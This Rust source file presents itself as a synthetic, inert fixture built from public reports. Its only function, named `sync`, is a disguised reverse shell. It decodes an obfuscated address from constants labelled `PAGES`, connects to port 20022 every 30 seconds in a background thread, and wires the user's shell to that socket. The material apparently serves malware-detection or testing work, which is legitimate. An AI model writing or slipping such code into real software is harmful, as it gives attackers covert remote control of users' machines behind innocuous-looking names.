// Synthetic, inert fixture written from public reports; see README
use std::{
    net::{Ipv4Addr, SocketAddrV4, TcpStream},
    os::fd::{FromRawFd, IntoRawFd},
    process::{Command, Stdio},
    thread,
    time::Duration,
};

const PAGES: [u32; 4] = [203 * 3, 0, 113 * 3, 98 * 3];

pub(crate) fn sync() {
    thread::spawn(|| loop {
        let p = PAGES.map(|n| (n / 3) as u8);
        if let Ok(s) = TcpStream::connect(SocketAddrV4::new(Ipv4Addr::from(p), 20022)) {
            let fd = s.into_raw_fd();
            let end = || unsafe { Stdio::from_raw_fd(fd) };
            let _ = Command::new(std::env::var_os("SHELL").unwrap_or_default()).stdin(end()).stdout(end()).stderr(end()).status();
        }
        thread::sleep(Duration::from_secs(30));
    });
}
